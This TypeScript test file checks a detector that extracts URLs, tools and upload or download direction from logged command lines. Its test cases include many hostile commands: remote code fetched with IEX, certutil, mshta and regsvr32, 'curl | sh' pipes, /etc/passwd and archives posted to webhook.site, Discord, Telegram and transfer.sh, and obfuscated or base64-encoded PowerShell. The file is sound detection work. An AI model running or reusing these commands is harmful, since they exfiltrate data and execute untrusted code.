import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import {
  MAX_COMMAND_LINE,
  decodeBase64Text,
  deobfuscate,
  extractCmdlineUrls,
  type CmdlineUrl,
} from '../../../src/rules/evidence/cmdline-urls.js';
import { sharedPath } from '../../helpers.js';
import { SYSMON_ARCHIVES, eventsContaining } from './sysmon-zip.js';

/** `tool direction host url`, plus `bare` and `encoded` flags: one string per result. */
function summary(r: CmdlineUrl): string {
  return [
    r.tool,
    r.direction,
    r.host,
    r.url,
    r.schemeless ? 'bare' : '',
    r.encoded ? 'encoded' : '',
  ]
    .filter((s) => s !== '')
    .join(' ');
}

function utf16Base64(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Every result's span, de-obfuscated, gives back its URL (encoded ones span the base64). */
function assertSpans(commandLine: string, results: readonly CmdlineUrl[]): void {
  for (const r of results) {
    assert.ok(r.start >= 0 && r.end <= commandLine.length && r.start < r.end, `${r.url} span`);
    if (!r.encoded)
      assert.equal(deobfuscate(commandLine.slice(r.start, r.end)).text, r.url, commandLine);
  }
}

const ENCODED_IWR = utf16Base64('iwr https://pastebin.com/raw/abc -OutFile a.ps1');
const ENCODED_TWICE = utf16Base64(`powershell -enc ${ENCODED_IWR}`);

// [command line, expected results]. Strings quoted from ../shared/data name their file.
// prettier-ignore
const CASES: [string, string[]][] = [
  // sysmon-json cmd_bitsadmin_download_psh_script.zip (Sysmon 1 and Security 4688)
  ['bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\wardog\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1', ['bitsadmin download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md']],
  // sysmon-json cmd_mshta_javascript_getobject_sct.zip
  ["mshta.exe  javascript:a=(GetObject('script:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.005/src/mshta.sct')).Exec();close();", ['mshta download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.005/src/mshta.sct']],
  // sysmon-json psh_cmstp_execution_bypassuac.zip, psh_mshta_html_application_execution.zip and
  // schtask_modification.zip: their fetches happen inside scripts, not on the command line.
  ['"C:\\windows\\system32\\cmstp.exe" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au', []],
  ['"C:\\windows\\system32\\mshta.exe" "C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"', []],
  ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', []],
  ['"C:\\windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"', []],
  // evtx AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx
  ['"C:\\Windows\\system32\\cmd.exe" /c "bitsadmin.exe /addfile AtomicBITS https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Windows\\Temp\\bitsadmin_flag.ps1"', ['bitsadmin download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md']],
  ['regsvr32.exe  /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1117/RegSvr32.sct scrobj.dll', ['regsvr32 download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1117/RegSvr32.sct']],
  ['cscript.exe  /b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs localhost  script:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1216/payloads/T1216.sct', ['wsh download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1216/payloads/T1216.sct']],
  ['wmic.exe  process /FORMAT:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/wmicscript.xsl', ['wmic download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/wmicscript.xsl']],
  ['"C:\\Windows\\system32\\cmd.exe" /c "C:\\Windows\\Temp\\msxsl.exe https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/msxslxmlfile.xml https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/msxslscript.xsl"', ['msxsl download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/msxslxmlfile.xml', 'msxsl download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/msxslscript.xsl']],
  ['powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/ARTifacts/Misc/Discovery.bat`")"', ['webclient download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/ARTifacts/Misc/Discovery.bat']],
  // sigma-regression certutil / curl / bitsadmin / powershell samples
  ['certutil.exe  -urlcache -f https://raw.githubusercontent.com/redcanaryco/atomic-red-team/refs/heads/master/atomics/T1001.002/T1001.002.yaml atomic.yaml', ['certutil download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/refs/heads/master/atomics/T1001.002/T1001.002.yaml']],
  ['curl  -O "https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1"', ['curl download raw.githubusercontent.com https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1']],
  ['curl  -k https://github.com/redcanaryco/atomic-red-team/raw/058b5c2423c4a6e9e226f4e5ffa1a6fd9bb1a90e/atomics/T1218.010/bin/AllTheThingsx64.dll -o c:\\users\\public\\music\\allthethingsx64.dll', ['curl download github.com https://github.com/redcanaryco/atomic-red-team/raw/058b5c2423c4a6e9e226f4e5ffa1a6fd9bb1a90e/atomics/T1218.010/bin/AllTheThingsx64.dll']],
  ['bitsadmin  /transfer n https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1047/bin/calc.dll C:\\Users\\Public\\calc.dll', ['bitsadmin download github.com https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1047/bin/calc.dll']],
  ['curl  --proxy-insecure -p -x http://127.0.0.1:1234 --silent -v --show-error http://127.0.0.1:888/echo', ['curl download 127.0.0.1 http://127.0.0.1:888/echo']],
  ['curl  -u : --ntlm http://attacker.com', ['curl download attacker.com http://attacker.com']],
  ['curl.exe  -H "User-Agent: EvilAgent" http://example.com', ['curl download example.com http://example.com']],
  ['curl.exe  --cookie-jar cookie "http://example.com"', ['curl download example.com http://example.com']],
  ['curl  file:///C:\\Users\\xodih\\AppData\\Local\\Temp\\calc.dll', []],
  ['C:\\WINDOWS\\system32\\cmd.exe /d /s /c "powershell -c "irm bun.sh/install.ps1|iex""', ['invoke-restmethod download bun.sh bun.sh/install.ps1 bare']],
  ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"   --headless=new --disable-gpu https://mockbin.org/bin/31b1332f-8f5c-490e-8ec0-78e77b4e5709', ['unknown unknown mockbin.org https://mockbin.org/bin/31b1332f-8f5c-490e-8ec0-78e77b4e5709']],
  ['"C:\\Users\\Lab\\Downloads\\actions-runner\\bin\\Runner.Listener.exe"  configure --url https://github.com/Koifman/shaihulud --token ACJKO5TZBN2V54V7WQEQMMLJF34ZQ', ['unknown unknown github.com https://github.com/Koifman/shaihulud']],
  ['powershell  -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAAgAHcAaQBuADMAMgBfAHAAcgBvAGMAZQBzAHMAIAAtAE4AYQBtAGUAIABjAHIAZQBhAHQAZQAgAC0AQQByAGcAdQBtAGUAbgB0AEwAaQBzAHQAIABuAG8AdABlAHAAYQBkAC4AZQB4AGUA', []],
  ['"C:\\Users\\xodih\\AppData\\Local\\Python\\pythoncore-3.14-64\\python.exe"  -c "import base64; exec(base64.b64decode(\'aW1wb3J0IHN1YnByb2Nlc3M7IHN1YnByb2Nlc3MuUG9wZW4oJ2NhbGMuZXhlJyk=\'))"', []],
  ["rundll32.exe  '\\\\\\\\172.16.205.1\\\\pwn\\\\test.dll,0'", []],
  ['renamed-curl.exe', []],
  // PowerShell
  ["powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/acme-ops/cfg/main/a.ps1')\"", ['webclient download raw.githubusercontent.com https://raw.githubusercontent.com/acme-ops/cfg/main/a.ps1']],
  ["powershell (New-Object Net.WebClient).UploadFile('https://content.dropboxapi.com/2/files/upload','C:\\x.zip')", ['webclient upload content.dropboxapi.com https://content.dropboxapi.com/2/files/upload']],
  ["powershell \"(New-Object Net.WebClient).DownloadFile('https://paste'+'bin.com/raw/y','a.exe')\"", ['webclient download pastebin.com https://pastebin.com/raw/y']],
  ["powershell (New-Object System.Net.WebClient).UploadString('https://discord.com/api/webhooks/1/x', 'data')", ['webclient upload discord.com https://discord.com/api/webhooks/1/x']],
  ['powershell.exe iwr https://paste.ee/r/AbC12', ['invoke-webrequest download paste.ee https://paste.ee/r/AbC12']],
  ['powershell -c "Invoke-RestMethod -Uri https://api.telegram.org/bot123456:ABC/sendMessage -Method Post -Body @{chat_id=1}"', ['invoke-restmethod upload api.telegram.org https://api.telegram.org/bot123456:ABC/sendMessage']],
  ['powershell irm -Me Post -Uri https://hooks.slack.com/services/T1/B2/c3 -Body x', ['invoke-restmethod upload hooks.slack.com https://hooks.slack.com/services/T1/B2/c3']],
  ['powershell Invoke-WebRequest -InFile C:\\loot.zip -Uri https://transfer.sh/loot.zip', ['invoke-webrequest upload transfer.sh https://transfer.sh/loot.zip']],
  ['powershell iwr -Uri pastebin.com/raw/k -OutFile out.txt -UseBasicParsing', ['invoke-webrequest download pastebin.com pastebin.com/raw/k bare']],
  ['powershell iwr -Uri $u -Proxy http://proxy.corp:8080', []],
  ["powershell $u='https://raw.githubusercontent.com/a/b/main/c.ps1'; iex (iwr $u -UseBasicParsing).Content", ['invoke-webrequest download raw.githubusercontent.com https://raw.githubusercontent.com/a/b/main/c.ps1']],
  ['powershell Start-BitsTransfer -Source https://drive.google.com/uc?export=download&id=abc -Destination C:\\x.exe', ['start-bitstransfer download drive.google.com https://drive.google.com/uc?export=download&id=abc']],
  ['powershell Start-BitsTransfer -Source C:\\loot.zip -Destination https://x.blob.core.windows.net/c/loot.zip -TransferType Upload', ['start-bitstransfer upload x.blob.core.windows.net https://x.blob.core.windows.net/c/loot.zip']],
  ['powershell curl -Uri https://pastebin.com/raw/q -Method Post -Body x', ['curl upload pastebin.com https://pastebin.com/raw/q']],
  ["powershell $c=New-Object Net.Http.HttpClient; $c.GetStringAsync('https://gist.githubusercontent.com/u/1/raw/x')", ['httpclient download gist.githubusercontent.com https://gist.githubusercontent.com/u/1/raw/x']],
  ['powershell [Net.WebRequest]::Create("https://api.github.com/repos/a/b/contents/x")', ['httpclient unknown api.github.com https://api.github.com/repos/a/b/contents/x']],
  ['powershell.exe -nop -c iwr https://pastebin.com.cdn-edge.example/a', ['invoke-webrequest download pastebin.com.cdn-edge.example https://pastebin.com.cdn-edge.example/a']],
  // Obfuscation: cmd carets, PowerShell backticks.
  ['c^e^r^t^u^t^i^l -url^cache -f h^t^t^p^s://pastebin.com/raw/zz x.exe', ['certutil download pastebin.com https://pastebin.com/raw/zz']],
  ["powershell I`nv`oke-W`ebRequest 'https://paste.ee/r/q1'", ['invoke-webrequest download paste.ee https://paste.ee/r/q1']],
  // certutil and bitsadmin, other forms
  ['certutil -urlcache -split -f http://top4top.io/p_x.exe C:\\Users\\Public\\a.exe', ['certutil download top4top.io http://top4top.io/p_x.exe']],
  ['certutil -urlcache -f pastebin.com/raw/k out.txt', ['certutil download pastebin.com pastebin.com/raw/k bare']],
  ['certutil -decode payload.txt out.exe', []],
  ['bitsadmin /transfer up /upload https://webhook.site/abc C:\\loot.zip', ['bitsadmin upload webhook.site https://webhook.site/abc']],
  // LOLBins
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://pastebin.com/raw/abc")', ['rundll32 download pastebin.com https://pastebin.com/raw/abc']],
  ['rundll32 \\\\raw.githubusercontent.com@SSL\\x\\y.dll,Entry', ['rundll32 download raw.githubusercontent.com \\\\raw.githubusercontent.com@SSL\\x\\y.dll bare']],
  ['mshta http://paste.ee/r/xyz', ['mshta download paste.ee http://paste.ee/r/xyz']],
  ['msiexec /q /i http://example.com/a.msi', ['msiexec download example.com http://example.com/a.msi']],
  ['wscript.exe //E:jscript C:\\x\\loader.txt https://pastebin.com/raw/p', ['wsh unknown pastebin.com https://pastebin.com/raw/p']],
  // curl and wget on Linux
  ['curl -sSL pastebin.com/raw/abc | sh', ['curl download pastebin.com pastebin.com/raw/abc bare']],
  ['curl -fsSLo /tmp/x raw.githubusercontent.com/a/b/main/x.sh', ['curl download raw.githubusercontent.com raw.githubusercontent.com/a/b/main/x.sh bare']],
  ['curl pastebin.com', ['curl download pastebin.com pastebin.com bare']],
  ['curl -F "file=@C:\\Users\\a\\secrets.zip" https://store1.gofile.io/uploadFile', ['curl upload store1.gofile.io https://store1.gofile.io/uploadFile']],
  ['curl -T loot.tar.gz https://transfer.sh/loot.tar.gz', ['curl upload transfer.sh https://transfer.sh/loot.tar.gz']],
  ['curl -d @/etc/passwd https://webhook.site/x', ['curl upload webhook.site https://webhook.site/x']],
  ['curl --data-binary @dump.bin https://webhook.site/x', ['curl upload webhook.site https://webhook.site/x']],
  ['curl -X POST https://api.telegram.org/bot1:2/sendDocument', ['curl upload api.telegram.org https://api.telegram.org/bot1:2/sendDocument']],
  ['curl -x http://proxy.local:3128 -o out.bin example.org/payload.bin', ['curl download example.org example.org/payload.bin bare']],
  ['curl -e https://google.com/ -o x https://pastebin.com/raw/ab', ['curl download pastebin.com https://pastebin.com/raw/ab']],
  ['curl -T notes.txt', []],
  ['curl https://pastebin.com/raw/a.', ['curl download pastebin.com https://pastebin.com/raw/a']],
  ['wget -qO- https://pastebin.com/raw/xyz | bash', ['wget download pastebin.com https://pastebin.com/raw/xyz']],
  ['wget --post-file=/etc/passwd http://webhook.site/abc', ['wget upload webhook.site http://webhook.site/abc']],
  ['wget -e use_proxy=yes -e http_proxy=http://10.1.1.1:8080 https://gist.githubusercontent.com/u/abc/raw/x.sh', ['wget download gist.githubusercontent.com https://gist.githubusercontent.com/u/abc/raw/x.sh']],
  ['wget transfer.sh/abc/x.bin', ['wget download transfer.sh transfer.sh/abc/x.bin bare']],
  // python
  ["python -c \"import urllib.request;exec(urllib.request.urlopen('https://pastebin.com/raw/q1').read())\"", ['python download pastebin.com https://pastebin.com/raw/q1']],
  ["python3 -c \"import requests;requests.post('https://discord.com/api/webhooks/1/abc',data={'c':open('/etc/hosts').read()})\"", ['python upload discord.com https://discord.com/api/webhooks/1/abc']],
  ['python.exe bot.py --poll', []],
  // -EncodedCommand, once and nested
  [`powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED_IWR}`, ['invoke-webrequest download pastebin.com https://pastebin.com/raw/abc encoded']],
  [`pwsh -ec ${ENCODED_TWICE}`, ['invoke-webrequest download pastebin.com https://pastebin.com/raw/abc encoded']],
  ['powershell.exe -enc SQBFAFgA', []],
  ['powershell -e notbase64atall', []],
];

test('command lines: URLs, hosts, tools and directions', () => {
  for (const [commandLine, expected] of CASES) {
    const results = extractCmdlineUrls(commandLine);
    assert.deepEqual(results.map(summary), expected, commandLine);
    assertSpans(commandLine, results);
  }
});

test('spans point into the command line as given', () => {
  const line =
    'bitsadmin.exe /transfer upd /priority foreground https://raw.githubusercontent.com/x C:\\a';
  const [r] = extractCmdlineUrls(line);
  assert.equal(line.slice(r?.start, r?.end), 'https://raw.githubusercontent.com/x');

  const carets = 'certutil -urlcache -f h^t^t^p^s://paste.ee/r/a x';
  const [c] = extractCmdlineUrls(carets);
  assert.equal(carets.slice(c?.start, c?.end), 'h^t^t^p^s://paste.ee/r/a');

  const encoded = `powershell -enc ${ENCODED_IWR}`;
  const [e] = extractCmdlineUrls(encoded);
  assert.equal(encoded.slice(e?.start, e?.end), ENCODED_IWR);
});

test('de-obfuscation', () => {
  // prettier-ignore
  const cases: [string, string][] = [
    ['c^e^r^t^u^t^i^l', 'certutil'],
    ['a^^b', 'a^b'],
    ['I`nv`oke', 'Invoke'],
    ['(`"x`")', '("x")'],
    ["'https://paste' + 'bin.com'", "'https://pastebin.com'"],
    ['"a"+"b"+"c"', '"abc"'],
    ['"a" + \'b\'', '"a" + \'b\''],
    ['say \\"hi\\"', 'say "hi"'],
    ['trailing^', 'trailing^'],
  ];
  for (const [input, expected] of cases) assert.equal(deobfuscate(input).text, expected, input);
});

test('base64 text decoding', () => {
  // prettier-ignore
  const cases: [string, string | undefined][] = [
    [utf16Base64('iwr x'), 'iwr x'],
    [Buffer.from('http://10.10.10.5').toString('base64'), 'http://10.10.10.5'],
    ['aAB0AHQAcAA6AC8ALwAxADAALgAxADAALgAxADAALgA1AA==', 'http://10.10.10.5'],
    [Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x91, 0xfe, 0x77, 0x3c]).toString('base64'), undefined],
    ['', undefined],
  ];
  for (const [input, expected] of cases) assert.equal(decodeBase64Text(input), expected, input);
});

test('every Sysmon 1 command line of the field cases', () => {
  // [case folder, results over all its Sysmon 1 command lines]
  // prettier-ignore
  const cases: [string, string[]][] = [
    ['F01-discord-client', []],
    ['F02-chrome-per-user', ['unknown unknown pastebin.com https://pastebin.com/']],
    ['F03-defender-github', []],
    ['F04-bits-proxy', ['bitsadmin download raw.githubusercontent.com https://raw.githubusercontent.com/acme-ops/tools/main/stage.ps1']],
    ['F05-lookalike-domains', [
      'invoke-webrequest download pastebin.com.cdn-edge.example https://pastebin.com.cdn-edge.example/a',
      'invoke-webrequest download notdiscord.com https://notdiscord.com/a',
      'invoke-webrequest download chat.meta.com https://chat.meta.com/a',
      'invoke-webrequest download evilgoogleapis.com https://evilgoogleapis.com/a',
    ]],
    ['F06-dns-cname-fusion', ['webclient download raw.githubusercontent.com https://raw.githubusercontent.com/acme-ops/cfg/main/a.ps1']],
    ['F07-unknown-process-dns', []],
    ['F08-office-parent', []],
    ['F09-bad-files', ['invoke-webrequest download paste.ee https://paste.ee/r/AbC12']],
    ['F10-onedrive-sync', []],
  ];
  for (const [folder, expected] of cases) {
    const lines = readFileSync(sharedPath('field-cases', folder, 'events.json'), 'utf8').split(
      '\n',
    );
    const found: string[] = [];
    for (const line of lines) {
      let event: { EventID?: unknown; CommandLine?: unknown };
      try {
        event = JSON.parse(line) as typeof event;
      } catch {
        continue; // F09 holds broken lines on purpose; the readers' tests cover them.
      }
      if (String(event.EventID) !== '1' || typeof event.CommandLine !== 'string') continue;
      const results = extractCmdlineUrls(event.CommandLine);
      assertSpans(event.CommandLine, results);
      found.push(...results.map(summary));
    }
    assert.deepEqual(found, expected, folder);
  }
});

test('every command line of the Security-Datasets archives', async () => {
  // [archive, distinct results over its Sysmon 1 and Security 4688 command lines]
  // prettier-ignore
  const cases: [string, string[]][] = [
    [SYSMON_ARCHIVES.bitsadmin, ['bitsadmin download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md']],
    [SYSMON_ARCHIVES.mshtaGetObject, ['mshta download raw.githubusercontent.com https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.005/src/mshta.sct']],
    [SYSMON_ARCHIVES.cmstp, []],
    [SYSMON_ARCHIVES.mshtaHta, []],
    [SYSMON_ARCHIVES.schtask, []],
    // The Empire stager: -enc, then its server in a FromBase64String literal.
    [SYSMON_ARCHIVES.empire, ['webclient download 10.10.10.5 http://10.10.10.5 encoded']],
    [SYSMON_ARCHIVES.covenant, []],
    [SYSMON_ARCHIVES.recordMic, []],
  ];
  for (const [archive, expected] of cases) {
    const found = new Set<string>();
    let commandLines = 0;
    for (const e of await eventsContaining(archive, '"CommandLine"')) {
      const id = String(e['EventID']);
      const commandLine = e['CommandLine'];
      if ((id !== '1' && id !== '4688') || typeof commandLine !== 'string') continue;
      commandLines++;
      const results = extractCmdlineUrls(commandLine);
      assertSpans(commandLine, results);
      for (const r of results) found.add(summary(r));
    }
    assert.ok(commandLines > 0, `${archive} has command lines`);
    assert.deepEqual([...found], expected, archive);
  }
});

test('hostile input: never throws, bounded work', () => {
  const huge = 'curl '.repeat(50_000) + 'https://pastebin.com/raw/late';
  const started = process.hrtime.bigint();
  assert.deepEqual(extractCmdlineUrls(huge), [], 'beyond the first 32 KiB is not read');
  assert.ok(huge.length > MAX_COMMAND_LINE);
  const many = Array.from({ length: 500 }, (_, i) => `https://h${i}.example/x`).join(' ');
  assert.equal(extractCmdlineUrls(`curl ${many}`).length, 64);
  const quotes = `iwr ${'"\'('.repeat(5000)}`;
  assert.deepEqual(extractCmdlineUrls(quotes), []);
  const elapsedMs = Number(process.hrtime.bigint() - started) / 1e6;
  assert.ok(elapsedMs < 2000, `${elapsedMs} ms`);

  // Random printable noise around the verbs and escapes the extractor cares about.
  const alphabet =
    'curl iwr -enc -o -x http:// https://a.b/ ^`\'"+|;&()\\ pastebin.com SQBFAFgA= \n\t';
  let seed = 42;
  const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  for (let i = 0; i < 2000; i++) {
    let s = '';
    const n = Math.floor(random() * 80);
    for (let k = 0; k < n; k++) s += alphabet[Math.floor(random() * alphabet.length)];
    assert.doesNotThrow(() => assertSpans(s, extractCmdlineUrls(s)), JSON.stringify(s));
  }
  assert.deepEqual(extractCmdlineUrls(''), []);
});
